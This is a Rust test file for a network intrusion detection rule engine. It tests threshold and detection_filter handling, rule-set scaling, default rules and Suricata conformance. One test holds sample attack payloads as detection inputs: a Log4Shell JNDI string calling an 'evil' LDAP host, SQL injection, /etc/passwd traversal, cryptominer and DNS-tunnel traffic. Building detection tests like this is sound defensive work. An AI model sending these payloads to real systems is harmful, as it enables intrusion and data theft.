        "detection_filter:track by_src, count 2, seconds 10, unique_on dst_port; threshold:type limit, track by_src, count 1, seconds 60;",
        "threshold:type limit, track by_src, count 1, seconds 60; detection_filter:track by_src, count 2, seconds 10, unique_on dst_port;",
    ] {
        let mut set = load_ok(&format!(
            "alert tcp any any -> any any (flags:S; {order} sid:1;)"
        ));
        let mut flow = FlowRuleState::default();
        let mut at = |port: u16, secs: i64| {
            sids_of(&mut set, &tcp(port, 0x02, b""), secs * 1_000_000, STATELESS, &mut flow).len()
        };
        // Ports 1..=2 are under the filter; 3 passes it and alerts; 4..=9 are capped.
        let first: usize = (1..=9).map(|p| at(p, 0)).sum();
        assert_eq!(first, 1, "{order}");
        // A new detection_filter window at t=20 passes again, but the limit's minute holds.
        let second: usize = (1..=9).map(|p| at(p, 20)).sum();
        assert_eq!(second, 0, "{order}");
        // After the limit's minute, the next window alerts once more.
        let third: usize = (1..=9).map(|p| at(p, 70)).sum();
        assert_eq!(third, 1, "{order}");
    }
    // Two of a kind stay refused, as in Suricata.
    for bad in [
        "threshold:type limit, track by_src, count 1, seconds 60; threshold:type both, track by_src, count 1, seconds 60;",
        "detection_filter:track by_src, count 1, seconds 60; detection_filter:track by_dst, count 1, seconds 60;",
        "detection_filter:track by_src, count 1, seconds 60; threshold:type limit, track by_src, count 1, seconds 60; threshold:type limit, track by_src, count 1, seconds 60;",
    ] {
        let (set, rep) = load(&format!("alert tcp any any -> any any ({bad} sid:1;)"));
        assert_eq!(set.len(), 0, "{bad}");
        assert!(rep.skipped[0].reason.contains("one threshold and one detection_filter"), "{:?}", rep.skipped);
    }
}

// ---------------------------------------------------------------- scaling

fn generated_rules(n: usize) -> String {
    let mut s = String::new();
    for i in 0..n {
        let port = 1000 + (i % 2000);
        match i % 3 {
            0 => s.push_str(&format!(
                "alert tcp any any -> any {port} (content:\"pattern-{i}-x\"; sid:{};)\n",
                100_000 + i
            )),
            1 => s.push_str(&format!(
                "alert tcp any any -> any any (content:\"needle{i}zz\"; nocase; sid:{};)\n",
                100_000 + i
            )),
            _ => s.push_str(&format!(
                "alert udp any any -> any {port} (dsize:>{}; sid:{};)\n",
                i % 500,
                100_000 + i
            )),
        }
    }
    s
}

#[test]
fn five_thousand_rules_load_and_match_the_right_ones() {
    let mut set = load_ok(&generated_rules(5000));
    assert_eq!(set.len(), 5000);
    // Rule 3 (tcp any port, nocase) and rule 0 (port 1000) both match.
    let f = tcp(1000, 0x18, b"xxNEEDLE1ZZ pattern-0-x");
    assert_eq!(hit(&mut set, &f, STATELESS), [100_000, 100_001]);
    let f = tcp(1001, 0x18, b"nothing here");
    assert!(hit(&mut set, &f, STATELESS).is_empty());
}

fn ns_per_packet(set: &mut RuleSet, frames: &[Vec<u8>], rounds: usize) -> f64 {
    let metas: Vec<PacketMeta> = frames
        .iter()
        .map(|f| decode(LinkType::Ethernet, f, f.len() as u32))
        .collect();
    let mut out: Vec<RuleHit> = Vec::with_capacity(64);
    let mut flow = FlowRuleState::default();
    let start = std::time::Instant::now();
    for _ in 0..rounds {
        for (f, m) in frames.iter().zip(&metas) {
            let ctx = PacketCtx {
                ts: 0,
                meta: m,
                frame: f,
                has_flow: true,
                to_server: true,
                established: true,
                stream: [0; 2],
            };
            set.inspect(&ctx, &mut flow, &mut out);
        }
    }
    start.elapsed().as_nanos() as f64 / (rounds * frames.len()) as f64
}

fn probe_frames() -> Vec<Vec<u8>> {
    vec![
        tcp(
            80,
            0x18,
            b"GET /index.html HTTP/1.1\r\nHost: example.com\r\nUser-Agent: test\r\n\r\n",
        ),
        tcp(443, 0x10, &[0x17; 600]),
        tcp(22, 0x02, b""),
        udp(53, &frames::dns_query(1, "www.example.com", 1)),
        udp(1500, &[0u8; 300]),
    ]
}

/// Run with `cargo test --release --test tests rules::matching_cost -- --ignored --nocapture`.
#[test]
#[ignore]
fn matching_cost_does_not_grow_linearly() {
    let frames = probe_frames();
    let default = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("rules/phantomnet.rules"),
    )
    .unwrap();
    let mut d = load_ok(&default);
    let t_default = ns_per_packet(&mut d, &frames, 20_000);
    for (i, f) in frames.iter().enumerate() {
        let one = ns_per_packet(&mut d, std::slice::from_ref(f), 20_000);
        println!("default rules, probe frame {i}: {one:.0} ns");
    }
    let mut small = load_ok(&generated_rules(500));
    let t_500 = ns_per_packet(&mut small, &frames, 20_000);
    let mut big = load_ok(&generated_rules(5000));
    let t_5000 = ns_per_packet(&mut big, &frames, 20_000);
    println!("ns/packet: default rules ({}) {t_default:.0}, 500 rules {t_500:.0}, 5000 rules {t_5000:.0}", d.len());
    assert!(
        t_5000 < t_500 * 5.0,
        "10x rules cost {t_5000:.0} vs {t_500:.0} ns/packet"
    );
}

// ---------------------------------------------------------------- default rules

#[test]
fn default_rules_load_without_skips() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("rules/phantomnet.rules");
    let (set, rep) = RuleSet::load_files(&[path], &RuleVars::default_home(), 4096).unwrap();
    assert!(rep.skipped.is_empty(), "{:?}", rep.skipped);
    assert!(set.len() >= 20);
    for i in 0..set.len() as u32 {
        let info = set.info(i);
        assert!(
            (9_100_000..=9_199_999).contains(&info.sid),
            "sid {}",
            info.sid
        );
        assert!(
            !info.msg.is_empty() && !info.classtype.is_empty(),
            "sid {}",
            info.sid
        );
    }
}

fn default_set() -> RuleSet {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("rules/phantomnet.rules");
    RuleSet::load_files(&[path], &RuleVars::default_home(), 4096)
        .unwrap()
        .0
}

#[test]
fn default_rules_catch_payload_attacks_and_ignore_ordinary_requests() {
    let mut set = default_set();
    let attacks: &[(&[u8], u16)] = &[
        (b"GET /?x=${jndi:ldap://evil/a} HTTP/1.1\r\n\r\n", 8080),
        (
            b"GET /item.php?id=1 UNION SELECT password FROM users HTTP/1.1\r\n\r\n",
            80,
        ),
        (b"GET /login?u=admin' OR 1=1-- HTTP/1.1\r\n\r\n", 80),
        (b"GET /../../../../etc/passwd HTTP/1.1\r\n\r\n", 80),
        (
            b"{\"id\": 1, \"method\": \"mining.subscribe\", \"params\": []}\n",
            3333,
        ),
        (b"USER anonymous\r\n", 21),
        (
            b"GET / HTTP/1.1\r\nAuthorization: Basic YWRtaW46YWRtaW4=\r\n\r\n",
            80,
        ),
    ];
    for (p, port) in attacks {
        let got = hit(&mut set, &tcp(*port, 0x18, p), EST_TS);
        assert!(
            !got.is_empty(),
            "no alert for {:?}",
            String::from_utf8_lossy(p)
        );
    }
    let benign = tcp(
        80,
        0x18,
        b"GET /index.html HTTP/1.1\r\nHost: example.com\r\nAccept: */*\r\n\r\n",
    );
    assert!(hit(&mut set, &benign, EST_TS).is_empty());
    let dns = udp(53, &frames::dns_query(7, "www.example.com", 1));
    assert!(hit(&mut set, &dns, STATELESS).is_empty());
    let long = format!(
        "{}.{}.t.example.com",
        "a".repeat(60),
        "b9c8d7e6f5".repeat(5)
    );
    let tunnel = udp(53, &frames::dns_query(7, &long, 16));
    assert!(!hit(&mut set, &tunnel, STATELESS).is_empty());
}

#[test]
fn default_rules_flag_a_syn_scan_and_brute_force() {
    let mut set = default_set();
    let mut alerts = 0;
    for (i, port) in (1..=200u16).enumerate() {
        let f = tcp(port, 0x02, b"");
        alerts += sids_of(
            &mut set,
            &f,
            i as i64 * 10_000,
            STATELESS,
            &mut FlowRuleState::default(),
        )
        .len();
    }
    assert!(alerts > 0, "SYN scan of 200 ports raised nothing");
    let mut set = default_set();
    let mut ssh = 0;
    for i in 0..30 {
        let f = frames::eth_ipv4_tcp(MAC_A, MAC_B, A, B, 40000 + i, 22, 0x02, 1, 0, b"");
        ssh += sids_of(
            &mut set,
            &f,
            i64::from(i) * 1_000_000,
            STATELESS,
            &mut FlowRuleState::default(),
        )
        .len();
    }
    assert!(ssh > 0, "30 SSH connections in 30 s raised nothing");
    // A handful of connections stays quiet.
    let mut set = default_set();
    let mut few = 0;
    for i in 0..3 {
        let f = frames::eth_ipv4_tcp(MAC_A, MAC_B, A, B, 40000 + i, 22, 0x02, 1, 0, b"");
        few += sids_of(
            &mut set,
            &f,
            i64::from(i) * 1_000_000,
            STATELESS,
            &mut FlowRuleState::default(),
        )
        .len();
    }
    assert_eq!(few, 0);
}

// ---------------------------------------------------------------- conformance driver

/// Replays `pcap` through the real pipeline (`phantomnet replay --no-model`) with `rules`
/// and returns the rule alerts (gid 1) per sid, and the store for further questions.
fn replay_alerts(pcap: &Path, rules: &Path, tmp: &TempDir) -> (HashMap<u64, usize>, PathBuf) {
    let (eve, db) = (tmp.path("eve.json"), tmp.path("db.sqlite"));
    let _ = std::fs::remove_file(&eve);
    let _ = std::fs::remove_file(&db);
    let out = bin()
        .args([
            "replay",
            pcap.to_str().unwrap(),
            "--rules",
            rules.to_str().unwrap(),
        ])
        .args([
            "--eve",
            eve.to_str().unwrap(),
            "--db",
            db.to_str().unwrap(),
            "--no-model",
        ])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "replay {} failed: {}",
        pcap.display(),
        String::from_utf8_lossy(&out.stderr)
    );
    let mut counts = HashMap::new();
    for ev in read_eve(&eve) {
        let a = &ev["alert"];
        if ev["event_type"] == "alert" && a["gid"].as_u64().unwrap_or(1) == 1 {
            *counts
                .entry(a["signature_id"].as_u64().unwrap())
                .or_default() += 1;
        }
    }
    (counts, db)
}

/// The Suricata conformance subset (PHANTOMNET_CONFORMANCE = suricata-verify dir) through
/// the built binary, as ../shared/conformance/run.py runs it; prints each failure with its
/// reason. Asserts the brief's targets: ≥ 80 % of non-quiet tests and every quiet test.
#[test]
fn suricata_conformance() {
    let Some(dir) = std::env::var_os("PHANTOMNET_CONFORMANCE").map(PathBuf::from) else {
        eprintln!("skipped: PHANTOMNET_CONFORMANCE (suricata-verify dir) is not set");
        return;
    };
    let tmp = TempDir::new("conformance");
    let index = std::fs::read_to_string(dir.join("INDEX.tsv")).unwrap();
    let (mut passed, mut failed, mut quiet_ok, mut quiet_bad) = (0, 0, 0, 0);
    for line in index.lines().skip(1) {
        let cols: Vec<&str> = line.split('\t').collect();
        let name = cols[0];
        let d = dir.join(name);
        let (counts, _) = replay_alerts(&d.join("input.pcap"), &d.join("test.rules"), &tmp);
        let total: usize = counts.values().sum();
        let mut bad = Vec::new();
        let mut quiet = true;
        for check in cols[2].split(';') {
            let (want, sid) = check.split_once(':').unwrap();
            let want: usize = want.parse().unwrap();
            quiet &= want == 0;
            let got = if sid == "*" {
                total
            } else {
                counts.get(&sid.parse().unwrap()).copied().unwrap_or(0)
            };
            if got != want {
                bad.push(format!("sid {sid}: want {want}, got {got}"));
            }
        }
        match (quiet, bad.is_empty()) {
            (true, true) => quiet_ok += 1,
            (true, false) => quiet_bad += 1,
            (false, true) => passed += 1,
            (false, false) => failed += 1,
        }
        if bad.is_empty() {
            println!("ok   {name}");
        } else {
            println!("FAIL {name}: {}", bad.join("; "));
        }
    }
    println!("quiet tests: {quiet_ok} held, {quiet_bad} broke; conformance: {passed} passed, {failed} failed");
    assert_eq!(quiet_bad, 0);
    assert!(
        passed * 5 >= (passed + failed) * 4,
        "{passed} passed, {failed} failed"
    );
}

/// Default rules over the shared captures (PHANTOMNET_PCAPS) through the real pipeline:
/// prints alerts per capture, checks that no benign capture raises a priority-1 alert and
/// that no rule fires more than 10 times for one source in one minute (a scan or flood must
/// give a handful of alerts, not one per packet).
#[test]
fn default_rules_on_shared_captures() {
    let Some(dir) = std::env::var_os("PHANTOMNET_PCAPS").map(PathBuf::from) else {
        eprintln!("skipped: PHANTOMNET_PCAPS is not set");
        return;
    };
    let tmp = TempDir::new("shared-captures");
    let rules = repo().join("rules/phantomnet.rules");
    let mut names: Vec<PathBuf> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "pcap" || e == "pcapng"))
        .collect();
    names.sort();
    let set = default_set();
    for p in names {
        let (counts, db) = replay_alerts(&p, &rules, &tmp);
        let mut v: Vec<(u64, usize)> = counts.into_iter().collect();
        v.sort_unstable();
        let name = p.file_name().unwrap().to_string_lossy().to_string();
        println!(
            "{name}: {} alerts {v:?}",
            v.iter().map(|x| x.1).sum::<usize>()
        );
        if name.starts_with("benign") {
            for (sid, _) in &v {
                let prio = (0..set.len() as u32)
                    .map(|i| set.info(i))
                    .find(|i| u64::from(i.sid) == *sid)
                    .map_or(3, |i| i.priority);
                assert!(prio > 1, "{name}: priority-1 alert sid {sid}");
            }
        }
        let conn = rusqlite::Connection::open(&db).unwrap();
        let worst: Option<(i64, String, i64)> = conn
            .query_row(
                "SELECT sid, src, count(*) AS c FROM alerts GROUP BY sid, src, CAST(ts / 60 AS INTEGER) ORDER BY c DESC LIMIT 1",
                [],
                |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)),
            )
            .ok();
        if let Some((sid, src, c)) = worst {
            assert!(
                c <= 10,
                "{name}: sid {sid} fired {c} times for {src} in one minute"
            );
        }
    }
}
